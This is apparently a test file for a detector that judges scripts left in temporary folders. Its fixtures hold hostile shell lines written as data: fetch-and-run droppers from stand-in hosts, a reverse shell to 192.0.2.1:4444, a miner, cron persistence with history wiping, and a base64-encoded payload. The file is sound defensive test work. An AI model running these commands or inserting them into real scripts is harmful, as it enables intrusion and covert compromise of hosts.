/** Scripts that nothing starts: checkouts and builds stay below suspicious, droppers are found wherever they lie. */
import { describe, expect, test } from 'bun:test';
import type { Fact } from '../../model/fact.ts';
import type { PersistenceFact } from '../../model/facts/persistence.ts';
import { factSet, judgeContext, ownedBy, processFact, text } from '../facts.fixture.ts';
import { entryFact, fileFact, scriptFact } from './entry.fixture.ts';
import { judgeEntries } from './judge-entries.ts';

const script = (at: string, lines: string, parts: Partial<PersistenceFact> = {}): readonly Fact[] => [
  scriptFact(lines, {
    at,
    mechanism: /\/\./.test(at) ? 'hidden-program' : 'dropped-program',
    marks: ['unusual-place'],
    target: text(at),
    ...parts,
  }),
  fileFact(at, { format: 'script' }),
  ownedBy(at, ''),
];

/** Judgement of the first entry, with its reasons. */
function judged(...facts: readonly Fact[]): string {
  const [entry] = judgeEntries(factSet(...facts), judgeContext());
  return `${entry?.judgement}: ${entry?.reasons.map(({ id }) => id).join(', ')}`;
}

const honest: Readonly<Record<string, readonly [string, string]>> = {
  'an installer from a repository host': [
    '/tmp/tool/install.sh',
    '#!/bin/sh\nset -e\ncurl -fsSL https://raw.githubusercontent.com/example/tool/main/get.sh | bash\n',
  ],
  'an installer in /tmp itself': [
    '/tmp/get-tool.sh',
    '#!/bin/sh\nsh -c "$(curl -fsSL https://get.example.com)"\n',
  ],
  'a plugin that asks the cloud for its keys': [
    '/tmp/certs/dnsapi/cloud.sh',
    '#!/bin/sh\nkeys() { eval "$(curl -s http://169.254.169.254/latest/meta-data/keys | sed s/:/=/)"; }\n',
  ],
  'a build from sources of a mirror': [
    '/var/tmp/stack/upgrade.sh',
    '#!/bin/bash\nwget http://mirror.example.com/web-1.2.tar.gz -O /tmp/web-1.2.tar.gz\ntar xzf /tmp/web-1.2.tar.gz -C /tmp\ncd /tmp/web-1.2 && ./configure && make install\n',
  ],
  'the installer of a service': [
    '/tmp/stack/install.sh',
    '#!/bin/bash\nsystemctl stop fail2ban\ncat > /etc/systemd/system/app.service <<E\n[Service]\nExecStart=/opt/app/run\nE\n',
  ],
  'an uninstaller that runs what it installed': [
    '/tmp/hole/uninstall.sh',
    '#!/bin/bash\n. /etc/.hole/lib.sh\nrm -rf /var/log/hole*\n',
  ],
  'a prompt with colours, written and read again': [
    '/tmp/stack/init.sh',
    `#!/bin/bash\necho -e "PS1='\\\\033[01;32m\\\\u\\\\033[0m'" >> ~/.bashrc\n. ~/.bashrc\n`,
  ],
  'the workflow of a checkout': [
    '/tmp/tool/.github/scripts/setup.sh',
    '#!/bin/sh\ncurl -sSL https://install.example.org | python3 -\n',
  ],
  'the temporary folder of a service': [
    '/tmp/systemd-private-0a1b-php.service-x/tmp/job.sh',
    '#!/bin/sh\nphp -v\n',
  ],
  'a package that is being built': [
    '/tmp/pip-install-1x/lib_0a/build.sh',
    '#!/bin/sh\ncurl -LsSf https://example.org/uv/install.sh | sh\npip wheel .\n',
  ],
};

describe('honest scripts that lie in temporary folders are at most unusual', () => {
  for (const [what, [at, lines]] of Object.entries(honest)) {
    test(what, () => {
      expect(judged(...script(at, lines))).toMatch(/^(?:benign|unusual): /);
    });
  }

  test('modules that Ansible packs into one script', () => {
    const packed = Buffer.from('PK\x03\x04 a module').toString('base64');
    const lines = `#!/usr/bin/python3\nimport base64, sys, runpy\nZIP = """${packed}"""\ndata = base64.b64decode(ZIP)\nopen('/tmp/ansible_x/m.zip', 'wb').write(data)\nsys.path.insert(0, '/tmp/ansible_x/m.zip')\nrunpy.run_module('m')\n`;
    for (const at of [
      '/tmp/ansible-tmp-1/module_setup.py',
      '/root/.ansible/tmp/ansible-tmp-1/module_setup.py',
    ])
      expect(judged(...script(at, lines, { language: 'python' }))).toMatch(/^(?:benign|unusual): /);
  });

  test('programs of a build, which linkers put into hidden folders', () => {
    const program = (at: string): readonly Fact[] => [
      entryFact('', { at, mechanism: 'hidden-program', language: 'argv', target: text(at) }),
      fileFact(at),
      ownedBy(at, ''),
    ];
    expect(judged(...program('/tmp/src/lib/.libs/tool'))).toStartWith('unusual: ');
    expect(judged(...program('/tmp/.libs/tool'))).toStartWith('suspicious: ');
    expect(judged(...program('/tmp/src/.x/tool'))).toStartWith('suspicious: ');
  });
});

const droppers: Readonly<Record<string, readonly [string, string]>> = {
  'fetched from a bare address': ['/tmp/tool/install.sh', '#!/bin/sh\ncurl -s http://192.0.2.1/a.sh | sh\n'],
  'fetched over a plain line': ['/tmp/a.sh', '#!/bin/sh\nwget -qO- http://x.example/a.sh | bash\n'],
  'saved hidden and run, over TLS': [
    '/tmp/tool/setup.sh',
    '#!/bin/sh\ncurl -fsSLo /var/tmp/.m https://x.example/m\nchmod +x /var/tmp/.m\n/var/tmp/.m\n',
  ],
  'a miner of a repository host': [
    '/tmp/tool/bench.sh',
    '#!/bin/sh\ncurl -L https://github.com/x/y/releases/download/v1/m.tar.gz | tar xz -C /tmp/tool\n/tmp/tool/m -o stratum+tcp://pool.example:3333 -u w -k\n',
  ],
  'that lies hidden': ['/tmp/.font-unix/up.sh', '#!/bin/sh\ncurl -fsSL https://x.example/a.sh | sh\n'],
  'in the temporary folder of a service, hidden': [
    '/tmp/systemd-private-0a1b-php.service-x/tmp/.c/up.sh',
    '#!/bin/sh\ncurl -fsSL https://x.example/a.sh | sh\n',
  ],
  'that ends rivals': ['/tmp/tool/clean.sh', '#!/bin/sh\npkill -9 kdevtmpfsi\n'],
  'that does what installers do, all of it': [
    '/tmp/tool/install.sh',
    '#!/bin/sh\ncurl -fsSL https://x.example/a.sh | bash\n(crontab -l; echo "@daily /opt/a") | crontab -\nhistory -c\n',
  ],
  'that hands out a shell': ['/tmp/tool/test.sh', '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n'],
  encoded: [
    '/tmp/tool/run.sh',
    `#!/bin/sh\necho ${Buffer.from('/tmp/tool/.x/m --daemon').toString('base64')} | base64 -d | sh\n`,
  ],
};

describe('droppers are found, with a repository beside them and without', () => {
  for (const [what, [at, lines]] of Object.entries(droppers)) {
    test(what, () => {
      const alone = judged(...script(at, lines));
      expect(alone).toMatch(/^(?:malicious|suspicious): /);
      const folder = at.slice(0, at.lastIndexOf('/'));
      const decoy = [`${folder}/.git/config`, `${folder}/README.md`, `${folder}/LICENSE`].map((path) =>
        fileFact(path, { format: 'text', mode: 0o100644 }),
      );
      expect(judged(...script(at, lines), ...decoy)).toBe(alone);
    });
  }
});

describe('what starts a script decides how it is judged', () => {
  const at = '/tmp/tool/install.sh';
  const lines = '#!/bin/sh\ncurl -fsSL https://raw.githubusercontent.com/example/tool/main/get.sh | bash\n';

  test('a line of cron', () => {
    expect(judged(...script(at, lines), entryFact(`sh ${at}`))).toStartWith('malicious: fetch-and-run');
    expect(judged(...script(at, lines), entryFact('sh /tmp/tool/other.sh'))).toStartWith('unusual: ');
  });

  test('a process, by its whole path or from its folder', () => {
    const run = (argv: readonly string[], cwd = '/'): string =>
      judged(
        ...script(at, lines),
        processFact({ pid: 9, path: '/usr/bin/bash', argv: argv.map((word) => text(word)), cwd: text(cwd) }),
      );
    expect(run(['sh', at])).toStartWith('malicious: ');
    expect(run(['sh', './install.sh'], '/tmp/tool')).toStartWith('malicious: ');
    expect(run(['/usr/bin/python3.12', '-u', at])).toStartWith('malicious: ');
    expect(run(['bash', '-o', 'pipefail', at])).toStartWith('malicious: ');
    expect(run(['bash', '-x', '+O', 'extglob', './install.sh'], '/tmp/tool')).toStartWith('malicious: ');
    expect(run(['python3', '-W', 'ignore', at])).toStartWith('malicious: ');
    expect(run(['python3', '/usr/bin/tool', at])).toStartWith('unusual: ');
    expect(run(['vi', at])).toStartWith('unusual: ');
    expect(run(['bash', '-i'], '/tmp/tool')).toStartWith('unusual: ');
  });

  test('another script that only lies there does not', () => {
    const other = script('/tmp/tool/all.sh', '#!/bin/sh\n/tmp/tool/install.sh\n');
    expect(judged(...script(at, lines), ...other)).toStartWith('unusual: ');
  });
});

test('ten thousand scripts and processes with long names are judged', () => {
  const many = Array.from({ length: 3000 }, (_, at) =>
    script(`/tmp/t/${'a/'.repeat(50)}${at}`, 'x=$x$x; eval "$x"'),
  ).flat();
  const entries = judgeEntries(factSet(...many), judgeContext());
  expect(entries.every(({ judgement }) => judgement === 'unusual')).toBe(true);
});
